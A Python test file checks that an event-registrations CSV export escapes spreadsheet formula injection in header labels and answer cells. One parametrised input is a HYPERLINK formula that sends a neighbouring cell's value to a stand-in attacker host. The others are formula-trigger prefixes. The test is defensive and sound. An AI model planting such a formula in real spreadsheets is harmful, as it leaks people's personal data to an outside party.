"""Nothing in the registrations spreadsheet runs as a formula, the header row included: question labels
and session titles are typed by organisers and imported, names and answers by the public."""

import csv
import io

import pytest

from app.db import DbSession
from app.events.models import EventKind
from app.programme.models import SessionKind
from app.registration.export import registrations_csv
from tests.factories import make_event, make_session
from tests.registration.manage_factories import answer, make_question, make_registration


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("http://evil.example/?"&A2,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_registrations_csv_neutralises_formulas_in_header_and_cells(db: DbSession, typed: str) -> None:
    event = make_event(db, kind=EventKind.workshop)
    question = make_question(db, event, label=typed)
    make_session(db, event, title=typed, kind=SessionKind.workshop, seat_limit=10)
    registration = make_registration(db, event, name=typed, affiliation=typed)
    answer(db, registration, question, typed)

    rows = list(csv.reader(io.StringIO(registrations_csv(db, event).decode("utf-8-sig"), newline="")))

    header, row = rows
    assert f"'{typed}" in header
    assert typed not in header
    assert (row[0], row[2]) == (f"'{typed}", f"'{typed}")
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in header + row)
